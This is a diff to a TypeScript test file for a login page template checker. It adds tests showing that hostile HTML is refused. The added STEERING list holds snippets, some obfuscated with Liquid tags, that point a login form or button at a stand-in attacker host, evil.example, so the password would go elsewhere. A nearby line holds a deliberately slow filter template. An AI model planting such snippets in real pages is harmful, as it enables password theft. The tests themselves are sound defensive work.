@@ -7,6 +7,20 @@ const page = (inner: string) => `<html><head>{%- auth0:head -%}</head><body>${in
 /** No step of a loop, where the clock is looked at, but one that goes through 60,000 values in one go. */
 const SLOW_FILTER = `{% assign s = "a" %}${'{% assign s = s | append: s %}'.repeat(16)}{{ s | split: "" ${'| group_by: "x" | map: "items" | first '.repeat(3)}| size }}`;
 
+/** Attacks on the form: the password would go to another site, or into an address. */
+const STEERING = [
+  '<form action="https://evil.example">',
+  '<FORM\naction="https://evil.example">',
+  '<form/action="https://evil.example">',
+  '</form><p>',
+  '<button formaction="https://evil.example">Log in</button>',
+  '<input type=image FormAction=https://evil.example>',
+  '<input type="submit" formmethod="get">',
+  '<{{ "form" }} action="https://evil.example">',
+  '<button {{ "formaction" }}="https://evil.example">Log in</button>',
+  '<{% assign a = "fo" %}{{ a }}{% echo "rm" %} action="https://evil.example">',
+];
+
 describe('a page template', () => {
   it('has our head and our form where its tags are, and its variables escaped', () => {
     const template = parseTenantTemplate(page('<p>{{ application.name }} {{ prompt.screen.name }}</p>'));
@@ -88,6 +102,35 @@ describe('a page template', () => {
     expect(template?.render({})).toBeUndefined();
   });
 
+  it.each(STEERING)('that sends the password elsewhere is refused: %s', (html) => {
+    expect(() => checkPageTemplate(page(html))).toThrow('It has a form');
+    expect(() => checkPageTemplate(page('').replace('</body>', `${html}</body>`))).toThrow('It has a form');
+  });
+
+  it('that sends the password elsewhere for one visitor alone gives way to our page', () => {
+    const html = page('<{{ application.tag }} action="https://evil.example">');
+    expect(() => checkPageTemplate(html)).not.toThrow();
+    const template = parseTenantTemplate(html);
+    expect(template?.render({ application: { tag: 'div' } }, OURS)).toContain('<main>');
+    expect(template?.render({ application: { tag: 'form' } }, OURS)).toBeUndefined();
+  });
+
+  it('may speak of forms', () => {
+    const html =
+      '<style>form { color: red }</style><form-card>The form, <b>formally</b></form-card><label form="x">a</label>';
+    expect(() => checkPageTemplate(page(html))).not.toThrow();
+  });
+
+  it('has our own form as it is, and never sees it', () => {
+    const widget = '<form action="/u/login" title="$& $1"></form>';
+    const html = parseTenantTemplate(page('{% capture a %}{% auth0:widget %}{% endcapture %}{{ a }}'))?.render(
+      {},
+      { head: '$&', widget },
+    );
+    expect(html).not.toContain('form');
+    expect(parseTenantTemplate(page(''))?.render({}, { head: '$&', widget })).toContain(`$&</head><body>${widget}`);
+  });
+
   it('that fails with the values of a request gives nothing, three times over, and is then left alone', () => {
     const template = parseTenantTemplate('{% for a in list %}{% for b in (1..99999) %}{{ b }}{% endfor %}{% endfor %}');
     const list = Array.from({ length: 1_000 }, () => 'x');
@@ -102,9 +145,10 @@ describe('a page template', () => {
 });
 
 describe('a partial', () => {
-  it('is refused where it does not parse or is longer than 10,000 characters', () => {
+  it('is refused where it does not parse, is longer than 10,000 characters or sends the password elsewhere', () => {
     expect(() => checkPartial('{% for %}', 'login.form-content-start')).toThrow('login.form-content-start');
     expect(() => checkPartial('x'.repeat(10_001), 'x')).toThrow('too long');
+    for (const html of STEERING) expect(() => checkPartial(html, 'x'), html).toThrow('It has a form');
     expect(() => checkPartial('<p>{{ prompt.screen.texts.varTos }}</p>', 'x')).not.toThrow();
   });
 });
